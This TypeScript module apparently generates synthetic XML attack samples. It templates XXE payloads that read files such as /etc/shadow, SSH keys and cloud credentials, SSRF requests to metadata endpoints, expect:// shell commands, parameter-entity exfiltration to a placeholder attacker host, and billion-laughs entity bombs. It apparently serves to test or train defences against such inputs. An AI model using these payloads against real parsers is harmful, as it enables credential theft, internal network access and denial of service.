/** XML documents whose type declarations read files, call out or grow without end (XML 1.0, sections 2.8 and 4.2). */
import type { Random } from '../../../random.ts';
import {
  changed,
  characters,
  drawInteger,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Part,
  type Rule,
  repeat,
  text,
  weighted,
} from '../../grammar.ts';
import { attackerHost, personName, privateIp, shellCommand, token } from '../lexicon.ts';

const encoding: Rule = weighted(
  [6, 'UTF-8'],
  [2, 'utf-8'],
  [2, 'ISO-8859-1'],
  [1, 'UTF-16'],
  [1, 'UTF-7'],
  [0.5, 'UTF-16BE'],
  [0.5, 'utf-32'],
  [0.3, 'IBM037'],
);

/** The declaration at the head of a document, or nothing. */
export const declaration: Rule = weighted(
  [4, text`<?xml version="1.0"?>`],
  [6, text`<?xml version="1.0" encoding="${encoding}"?>`],
  [2, text`<?xml version='1.0' encoding='${encoding}'?>`],
  [1, text`<?xml version="1.0" encoding="${encoding}" standalone="${oneOf('yes', 'no')}"?>`],
  [1, text`<?xml version = "1.0" encoding="${encoding}" ?>`],
  [4, ''],
);

/** The name of an element or entity. */
export const xmlName: Rule = weighted(
  [
    6,
    oneOf(
      'foo',
      'root',
      'test',
      'data',
      'r',
      'x',
      'a',
      'xxe',
      'note',
      'doc',
      'request',
      'creds',
      'user',
      'order',
      'stockCheck',
      'message',
      'item',
      'payload',
      'replace',
      'lolz',
      'ANY',
      'svg',
      'html',
    ),
  ],
  [3, characters(LOWER_CASE, 1, 7)],
  [1, text`${characters(LOWER_CASE, 2, 5)}${integer(1, 99)}`],
);

const entityName: Rule = weighted(
  [
    6,
    oneOf(
      'xxe',
      'file',
      'x',
      'test',
      'ent',
      'e',
      'a',
      'send',
      'data',
      'ext',
      'remote',
      'b',
      'pwn',
      'bar',
      'example',
      'content',
      'asd',
    ),
  ],
  [3, characters(LOWER_CASE, 1, 8)],
);

const localFile: Rule = oneOf(
  'etc/passwd',
  'etc/passwd',
  'etc/passwd',
  'etc/hostname',
  'etc/hosts',
  'etc/shadow',
  'etc/issue',
  'etc/group',
  'proc/self/environ',
  'proc/self/cmdline',
  'dev/random',
  'dev/urandom',
  'c:/boot.ini',
  'c:/windows/win.ini',
  'C:/Windows/System32/drivers/etc/hosts',
  'c:\\winnt\\win.ini',
  'c:/inetpub/wwwroot/web.config',
  'var/www/html/config.php',
  'root/.ssh/id_rsa',
  'root/.bash_history',
  'home/user/.aws/credentials',
  'flag',
  'flag.txt',
  'opt/tomcat/conf/tomcat-users.xml',
  'var/log/apache2/access.log',
  'tmp/',
  'WEB-INF/web.xml',
  text`home/${personName}/.ssh/id_rsa`,
  text`tmp/${token}`,
  'sys/class/net/eth0/address',
  '../../../../etc/passwd',
);

const internalAddress: Rule = oneOf(
  '127.0.0.1',
  'localhost',
  privateIp,
  '169.254.169.254',
  '[::1]',
  'metadata.google.internal',
);

/** What an external entity points at. */
export const systemIdentifier: Rule = weighted(
  [8, text`file://${oneOf('/', '/', '', 'localhost/')}${localFile}`],
  [2, text`/${localFile}`],
  [
    4,
    text`http${maybe('s', 0.3)}://${attackerHost}${maybe(text`:${integer(80, 9999)}`, 0.1)}/${maybe(text`${token}${oneOf('', '.dtd', '.txt', '.xml', '?')}`, 0.8)}`,
  ],
  [
    2,
    text`http://${internalAddress}${maybe(text`:${oneOf('22', '80', '3306', '8080', '6379', '9200', '25')}`, 0.5)}/${oneOf('', 'latest/meta-data/', 'latest/meta-data/iam/security-credentials/', 'admin', token)}`,
  ],
  [
    3,
    text`php://filter/${oneOf('read=', '')}convert.base64-encode/resource=${oneOf('index.php', 'config.php', '/etc/passwd', text`/${localFile}`, text`http://${attackerHost}/${token}`)}`,
  ],
  [1, text`expect://${shellCommand}`],
  [
    1,
    text`${oneOf('ftp', 'gopher', 'dict', 'ldap', 'netdoc', 'jar:http', 'tftp')}://${oneOf(attackerHost, internalAddress)}${maybe(text`:${integer(21, 9999)}`)}/${oneOf('', token, localFile)}`,
  ],
  [1, text`netdoc:/${localFile}`],
  [1, text`jar:${oneOf('file', 'http')}://${attackerHost}/${token}.zip!/${token}.txt`],
  [1, text`php://${oneOf('input', 'stdin')}`],
  [1, text`data://text/plain;base64,${characters('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0123456789', 12, 40)}`],
  [1, text`\\\\${attackerHost}\\${token}\\x`],
);

const quoted = (part: Part): Rule =>
  changed(part, (written, random) => (random() < 0.75 ? `"${written}"` : `'${written.replaceAll("'", '')}'`));
const space: Rule = weighted([12, ' '], [2, '  '], [2, '\n'], [1, '\t']);

/** An external identifier: `SYSTEM "…"` or `PUBLIC "…" "…"`. */
export const externalIdentifier: Rule = weighted(
  [6, text`SYSTEM${space}${quoted(systemIdentifier)}`],
  [
    1,
    text`PUBLIC${space}${quoted(oneOf(token, '-//A//B//EN', 'any', 'bar', '-//W3C//DTD XHTML 1.0//EN'))}${space}${quoted(systemIdentifier)}`,
  ],
);

/** The name and the document for it, with the same random name throughout. */
const withNames =
  (write: (names: { root: string; entity: string; other: string }, random: Random) => Rule): Rule =>
  (random) => {
    const names = { root: xmlName(random), entity: entityName(random), other: entityName(random) };
    return write(names, random)(random);
  };

const elementDeclaration = (root: string): Rule =>
  maybe(text`<!ELEMENT ${root} ${oneOf('ANY', '(#PCDATA)', 'EMPTY', '(a|b)*')}${maybe(' ')}>${maybe('\n')}`, 0.45);

/** An entity that is declared and used. */
export const entityDocument: Rule = withNames(
  ({ root, entity }) =>
    text`${declaration}${maybe('\n', 0.4)}<!DOCTYPE${space}${root}${maybe(' ')}[${maybe(oneOf('\n', ' ', '\n  '))}${elementDeclaration(root)}<!ENTITY${space}${entity}${space}${externalIdentifier}${maybe(' ')}>${maybe('\n')}]>${maybe('\n')}${bodyWith(root, `&${entity};`)}`,
);

/** Elements around the reference to an entity. */
function bodyWith(root: string, reference: string): Rule {
  return oneOf(
    text`<${root}>${reference}</${root}>`,
    text`<${root}>${maybe('\n')}<${xmlName}>${reference}</${xmlName}>${maybe('\n')}</${root}>`,
    text`<${root}><user>${personName}</user><pass>${reference}</pass></${root}>`,
    text`<${root}><${xmlName}>${integer(1, 999)}</${xmlName}><name>${reference}</name></${root}>`,
    text`<${root} attr="${reference}"/>`,
    text`<${root}><productId>${reference}</productId><storeId>${integer(1, 9)}</storeId></${root}>`,
    text`<${root}>${integer(0, 99)}${reference}</${root}>`,
    text`<methodCall><methodName>${characters(LOWER_CASE, 3, 8)}</methodName><params><param><value>${reference}</value></param></params></methodCall>`,
    text`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><${root}>${reference}</${root}></soap:Body></soap:Envelope>`,
    text`<svg xmlns="http://www.w3.org/2000/svg" width="${integer(10, 900)}" height="${integer(10, 900)}"><text x="0" y="${integer(1, 99)}">${reference}</text></svg>`,
    text`<rss version="2.0"><channel><title>${reference}</title></channel></rss>`,
  );
}

/** Parameter entities: a remote declaration that sends a file away. */
export const parameterEntityDocument: Rule = withNames(({ root, entity, other }) => {
  const exfiltration = text`<!ENTITY &#${oneOf('37', 'x25')}; ${other} SYSTEM '${oneOf('http', 'ftp')}://${attackerHost}/?${maybe(text`${characters(LOWER_CASE, 1, 3)}=`)}%${entity};'>`;
  return text`${declaration}${maybe('\n', 0.4)}<!DOCTYPE ${root} [${maybe('\n')}${oneOf(
    text`<!ENTITY${space}%${space}${entity}${space}${externalIdentifier}>${maybe('\n')}%${entity};`,
    text`<!ENTITY % ${entity} ${externalIdentifier}> <!ENTITY % ${other} SYSTEM "http://${attackerHost}/${token}.dtd">${maybe('\n')}%${other};${maybe(text` %${characters(LOWER_CASE, 3, 6)};`)}`,
    text`<!ENTITY % ${entity} ${externalIdentifier}><!ENTITY % dtd "${exfiltration}">%dtd;%${other};`,
    text`<!ENTITY % local_dtd SYSTEM "file:///${oneOf('usr/share/yelp/dtd/docbookx.dtd', 'usr/share/xml/fontconfig/fonts.dtd', 'opt/IBM/WebSphere/properties/schemas/j2ee/XMLSchema.dtd', 'C:\\Windows\\System32\\wbem\\xml\\cim20.dtd')}"><!ENTITY % ${oneOf('ISOamso', 'constant', 'SuperClass', 'expr')} '<!ENTITY &#x25; ${entity} ${externalIdentifier}>'>%local_dtd;`,
  )}${maybe('\n')}]>${maybe(text`<${root}>${oneOf('', token, text`&${other};`)}</${root}>`, 0.75)}`;
});

/** A document type that is fetched from elsewhere, without an internal subset. */
export const remoteTypeDocument: Rule = withNames(
  ({ root, entity }) =>
    text`${declaration}<!DOCTYPE${space}${root}${space}${externalIdentifier}${maybe('[]', 0.1)}>${maybe(text`<${root}>${oneOf('', token, text`&${entity};`)}</${root}>`, 0.7)}`,
);

/** The external subset itself, or a part of a document that declares entities. */
export const declarationsOnly: Rule = withNames(({ entity, other }) =>
  oneOf(
    text`<!ENTITY ${entity} ${externalIdentifier}>`,
    text`<!ENTITY % ${entity} ${externalIdentifier}> %${entity};`,
    text`<!ENTITY % ${entity} ${externalIdentifier}><!ENTITY % eval "<!ENTITY &#x25; ${other} SYSTEM 'http://${attackerHost}/?x=%${entity};'>">%eval;%${other};`,
    text`]><!DOCTYPE ${entity} [<!ENTITY ${other} ${externalIdentifier}>]>`,
    text`<!DOCTYPE ${entity} [<!ENTITY ${other} ${externalIdentifier}>`,
    text`<!DOCTYPE ${entity} ${externalIdentifier}>`,
  ),
);

/** Entities made of entities: the document is small, its text is not. */
export const bombDocument: Rule = (random) => {
  const name = oneOf('lol', 'a', 'ha', 'x', 'ent', 'b', characters(LOWER_CASE, 1, 4))(random);
  const root = xmlName(random);
  const [levels, width] = [drawInteger(random, 3, 10), drawInteger(random, 4, 12)];
  const end = oneOf('', '\n', '\n  ')(random);
  const entities = Array.from({ length: levels }, (_, level) => {
    const value = level === 0 ? oneOf('lol', 'dos', 'ha !', token)(random) : `&${name}${level};`.repeat(width);
    return `<!ENTITY ${name}${level + 1} "${value}">`;
  });
  const subset = random() < 0.2 ? [`<!ENTITY ${name} "${'a'.repeat(drawInteger(random, 50, 600))}">`] : entities;
  const use = subset === entities ? `&${name}${levels};` : `&${name};`.repeat(drawInteger(random, 20, 120));
  return `${declaration(random)}<!DOCTYPE ${root} [${end}${maybe(text`<!ELEMENT ${root} (#PCDATA)>${end}`, 0.3)(random)}${subset.join(end)}${end}]>${end}<${root}>${use}</${root}>`;
};

/** References of other kinds that a parser follows: inclusions, schemas, style sheets. */
export const inclusion: Rule = withNames(({ root }) =>
  oneOf(
    text`<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include ${maybe('parse="text" ')}href=${quoted(systemIdentifier)}${maybe(' parse="text"', 0.3)}/></${root}>`,
    text`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href=${quoted(systemIdentifier)} parse="text"/>`,
    text`<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href=${quoted(systemIdentifier)}><xi:fallback><xi:include href=${quoted(systemIdentifier)}/></xi:fallback></xi:include></${root}>`,
    text`${declaration}<xsl:stylesheet version="${oneOf('1.0', '2.0')}" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:${oneOf('copy-of', 'value-of')} select="${oneOf('document', 'unparsed-text')}('${changed(systemIdentifier, (written) => written.replaceAll(/['"]/g, ''))}')"/></xsl:template></xsl:stylesheet>`,
    text`${declaration}<?xml-stylesheet type="text/xsl" href=${quoted(text`${oneOf('http://', 'file:///')}${attackerHost}/${token}.xsl`)}?><${root}/>`,
    text`<xsl:${oneOf('include', 'import')} xmlns:xsl="http://www.w3.org/1999/XSL/Transform" href=${quoted(systemIdentifier)}/>`,
    text`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${oneOf('expect://', 'file:///', 'msl:/', 'text:/')}${oneOf('etc/passwd', 'id', localFile)}" width="${integer(10, 900)}"/></svg>`,
  ),
);

/** Text between or after which the document may stand in a value. */
export const junk: Rule = repeat(oneOf('\n', ' ', '<!-- comment -->', text`<!-- ${token} -->`), 0, 2);
